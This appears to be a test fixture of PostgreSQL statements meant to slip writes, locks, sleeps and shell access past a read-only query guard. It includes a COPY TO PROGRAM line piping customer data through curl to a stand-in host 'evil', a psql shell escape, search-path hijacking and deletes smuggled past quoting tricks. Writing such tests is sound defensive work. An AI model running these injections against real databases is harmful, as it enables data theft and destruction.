--# deletes in a WITH query behind SEARCH
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n FROM t) SEARCH DEPTH FIRST BY n SET place, gone AS (DELETE FROM orders RETURNING 1) SELECT * FROM t
--# deletes in a WITH query inside VALUES
VALUES ((WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone))
--# deletes in a WITH query before TABLE
WITH gone AS (DELETE FROM orders RETURNING *) TABLE gone
--# deletes in a WITH query that EXPLAIN runs, with options in brackets
EXPLAIN (ANALYZE, FORMAT JSON) WITH RECURSIVE gone (id) AS (DELETE FROM orders RETURNING id) SELECT * FROM gone
--# deletes in a WITH query named like a verb
WITH "delete" AS (DELETE FROM orders RETURNING id), "update" AS (SELECT 1) SELECT * FROM "update"
--# updates with a star in a WITH query
WITH u AS (UPDATE orders * SET amount = 0 RETURNING id) SELECT count(*) FROM u
--# inserts a row of defaults in a WITH query
WITH i AS (INSERT INTO log DEFAULT VALUES RETURNING id) SELECT id FROM i
--# inserts in a WITH query of a set operation's second part
SELECT 1 UNION ALL (WITH i AS (INSERT INTO log (what) VALUES ('x') RETURNING id) SELECT id FROM i)
--# merges in a WITH query behind JSON_TABLE
WITH j AS (SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$')) AS t), m AS (MERGE INTO orders o USING j ON o.id = j.a WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m
--# creates a table by INTO behind DISTINCT ON
SELECT DISTINCT ON (id) id INTO stolen FROM orders
--# creates a table by INTO behind an array slice
SELECT ARRAY[1, 2][1:2] AS a INTO stolen
--# creates a table by INTO behind a label that is a verb
SELECT 1 AS delete INTO stolen
--# creates a table by INTO behind FILTER and OVER
SELECT count(*) FILTER (WHERE true) OVER (w) AS n INTO TABLE stolen FROM orders WINDOW w AS (ORDER BY id)
--# creates a table by INTO in the first of bracketed parts
(SELECT 1 AS a INTO stolen)
--# locks rows behind FETCH
SELECT * FROM orders ORDER BY id FETCH FIRST 1 ROW ONLY FOR UPDATE
--# locks rows behind two clauses
SELECT * FROM orders FOR SHARE OF orders FOR NO KEY UPDATE
--# locks rows in a WITH query
WITH held AS (SELECT * FROM orders FOR UPDATE SKIP LOCKED) SELECT count(*) FROM held
--# locks rows in EXISTS
SELECT EXISTS (SELECT 1 FROM orders FOR KEY SHARE NOWAIT)
--# locks rows in a lateral subquery
SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id FOR NO KEY UPDATE) q
--# locks rows in an argument
SELECT array(SELECT id FROM orders FOR UPDATE)
--# sleeps in JSON_TABLE's context
SELECT * FROM JSON_TABLE(to_jsonb(pg_sleep(0)::text), '$' COLUMNS (a text PATH '$')) t
--# sleeps in JSON_TABLE's PASSING
SELECT * FROM JSON_TABLE('{}', '$.x' PASSING pg_sleep(0)::text AS y COLUMNS (a int PATH '$')) t
--# sleeps in XMLTABLE's default
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b text PATH 'b' DEFAULT pg_sleep(0)::text) t
--# sleeps in a JSON value's default
SELECT JSON_VALUE('{}', '$.a' DEFAULT pg_sleep(0)::text ON EMPTY)
--# sleeps in a JSON array of a query
SELECT JSON_ARRAY(SELECT pg_sleep(0)::text)
--# sleeps in an extract
SELECT extract(epoch FROM now() + make_interval(secs => length(pg_sleep(0)::text)))
--# sleeps in a sample
SELECT * FROM orders TABLESAMPLE BERNOULLI (length(pg_sleep(0)::text) + 1)
--# sleeps in an array's subscript
SELECT (ARRAY[1, 2])[length(pg_sleep(0)::text) + 1]
--# sleeps in a slice
SELECT (ARRAY[1, 2])[1:length(pg_sleep(0)::text) + 1]
--# sleeps in GROUPING SETS
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((pg_sleep(0)::text), ())
--# sleeps in a frame
SELECT sum(id) OVER (ORDER BY id ROWS length(pg_sleep(0)::text) PRECEDING) FROM orders
--# sleeps in FETCH
SELECT * FROM orders FETCH FIRST (length(pg_sleep(0)::text) + 1) ROWS ONLY
--# sleeps in an ORDER BY of an aggregate
SELECT array_agg(id ORDER BY pg_sleep(0)::text) FROM orders
--# sleeps in JOIN's condition
SELECT * FROM orders o JOIN customers c ON pg_sleep(0)::text = '' AND c.id = o.customer_id
--# sleeps behind a named argument
SELECT make_interval(secs => length(pg_sleep(0)::text))
--# sleeps in functional notation of a row
SELECT (ROW(0.0)).pg_sleep
--# sleeps with dollars between comments
SELECT /* $$ */ pg_sleep(0) /* $$ */
--# sleeps behind a nested comment
SELECT /* /* pg_typeof( */ */ pg_sleep(0)
--# sleeps with a carriage return as the only white space
SELECTpg_sleep(0)
--# sleeps with a form feed inside
SELECT pg_sleep(0)
--# sleeps, the schema in upper case and quoted name
SELECT PG_CATALOG."pg_sleep"(0)
--# calls a function of Turkish letters that looks like a keyword
SELECT ın(1)
--# calls a function of letters of full width
SELECT ｐｇ＿ｓｌｅｅｐ(0)
--# hides a delete behind a Unicode string
SELECT U&'\' ; DELETE FROM orders; --'
--# hides a delete behind a bit string
SELECT B'1' ; DELETE FROM orders
--# hides a delete behind a dollar quote after a number
SELECT 1 ; DELETE FROM orders; SELECT $1$
--# hides a delete behind an escape string with an octal quote
SELECT E'\047' ; DELETE FROM orders; --'
--# hides a delete behind a backslash before the end of an escape string
SELECT E'a\\' ; DELETE FROM orders; --'
--# hides a delete behind a tag in other case
SELECT $A$ $a$ $A$ ; DELETE FROM orders; -- $a$
--# hides a delete behind a comment in a dollar quote
SELECT $$ /* $$ ; DELETE FROM orders; -- */
--# hides a delete behind a quoted name with a semicolon
SELECT 1 AS ";" ; DELETE FROM orders
--# runs a meta-command of psql
SELECT 1 \g /tmp/stolen
--# runs a shell command of psql
\! touch /tmp/stolen
--# runs rows as statements by psql
SELECT 'DELETE FROM orders' \gexec
--# copies a query's rows to a program
COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil'
--# copies the client's rows into a table
COPY orders FROM STDIN
--# ends the transaction and chains another
COMMIT AND CHAIN; DELETE FROM orders
--# prepares a transaction for later
PREPARE TRANSACTION 'x'
--# makes the session writable
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
--# makes the transaction writable by a setting's function
SELECT set_config('transaction_read_only', 'off', true)
--# sets the search path for later
SELECT set_config('search_path', 'evil, public', false) FROM customers LIMIT 1
--# imports a foreign schema
IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO public
--# creates a function
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
--# creates a rule that deletes
CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT 1
--# changes the owner
REASSIGN OWNED BY current_user TO postgres
--# labels an object
SECURITY LABEL ON TABLE orders IS 'x'
--# stops listening
UNLISTEN *
--# closes cursors
CLOSE ALL
--# moves a cursor
MOVE ALL IN c
--# explains an insert
EXPLAIN (COSTS OFF) INSERT INTO orders DEFAULT VALUES
--# explains and runs a merge
EXPLAIN (ANALYZE) MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DO NOTHING
--# explains with an option twice and runs a delete
EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders
--# runs SQL from text by an XML function's schema
SELECT pg_catalog.query_to_xml_and_xmlschema('DELETE FROM orders', true, true, '')
--# reads an XML document's entity from a file
SELECT pg_read_file('PG_VERSION')::xml
--# creates a table by INTO behind a column named as
SELECT x.as INTO stolen FROM orders x
--# creates a table by INTO behind a label named as
SELECT 1 AS as INTO TABLE stolen
--# creates a table by INTO behind a field of a field named as
SELECT (x.b).as INTO stolen FROM orders x
--# locks rows behind a column named as
SELECT * FROM orders x WHERE x.as FOR UPDATE
--# locks rows behind a limit
SELECT * FROM orders x ORDER BY x.as FOR NO KEY UPDATE LIMIT 1
--# deletes behind a semicolon inside brackets
SELECT (1; DELETE FROM orders)
--# deletes in a WITH query behind one named like a verb
WITH update AS (SELECT 1), d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
--# sleeps behind a word of JSON that is a function here
SELECT JSON_OBJECT('a' VALUE 1), value(pg_sleep(0)) FROM orders
--# calls a function of somebody's that looks like a list of columns
SELECT * FROM orders x, passing(1)
--# calls a function of somebody's behind a bracket
SELECT DISTINCT ON (id) columns(1) FROM orders
--# calls a function of somebody's that looks like a word of JSON
SELECT JSON_OBJECT(KEY value(1) VALUE 2)
--# sleeps in a value of JSON
SELECT JSON_OBJECT('a' VALUE (pg_sleep(0)::text))
--# sleeps in a query that XMLTABLE is passed
SELECT * FROM XMLTABLE('/a' PASSING (SELECT pg_sleep(0)::text::xml) COLUMNS a text) x
